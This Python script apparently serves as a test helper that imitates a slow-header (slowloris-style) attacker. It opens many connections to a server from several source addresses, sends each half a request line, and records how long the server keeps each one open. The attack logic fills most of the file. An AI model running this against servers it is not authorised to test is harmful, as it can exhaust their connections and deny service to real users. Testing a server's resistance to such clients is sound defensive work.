"""A slow-header attacker in a process of its own: ``python slow_clients.py HOST PORT COUNT SOURCE...``.

Opens COUNT connections to HOST:PORT one after another, spread over the SOURCE addresses, pausing after
every ``WAVE`` (as a real attacker paces itself, and so the server's accept loop never takes them in one
burst); sends each half a request line and nothing more, then waits for the server to close every one.
Prints one JSON object: how long the opening took, and for each connection how long it stayed open and how
many bytes it was sent.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import sys
import time

HALF_A_REQUEST_LINE = b"GET /health HT"
GIVE_UP_S = 60
WAVE = 10
WAVE_PAUSE_S = 0.01


async def held_open(reader: asyncio.StreamReader, opened_at: float) -> tuple[float, int]:
    received = await reader.read()
    return time.monotonic() - opened_at, len(received)


async def attack(host: str, port: int, count: int, sources: list[str]) -> dict:
    waits, writers = [], []
    started = time.monotonic()
    for n in range(count):
        reader, writer = await asyncio.open_connection(host, port, local_addr=(sources[n % len(sources)], 0))
        opened_at = time.monotonic()
        writer.write(HALF_A_REQUEST_LINE)
        writers.append(writer)
        waits.append(asyncio.create_task(held_open(reader, opened_at)))
        if n % WAVE == WAVE - 1:
            await asyncio.sleep(WAVE_PAUSE_S)
    opened_s = time.monotonic() - started
    held = await asyncio.wait_for(asyncio.gather(*waits), GIVE_UP_S)
    for writer in writers:
        writer.close()
    return {"opened_s": opened_s, "held_s": [seconds for seconds, _ in held],
            "bytes_received": [size for _, size in held]}


def main() -> None:
    host, port, count, *sources = sys.argv[1:]
    # An attacker runs elsewhere: here it yields the CPU to the server it attacks, not the other way round.
    os.nice(10)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = int(count) + 64
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
    print(json.dumps(asyncio.run(attack(host, int(port), int(count), sources))))


if __name__ == "__main__":
    main()
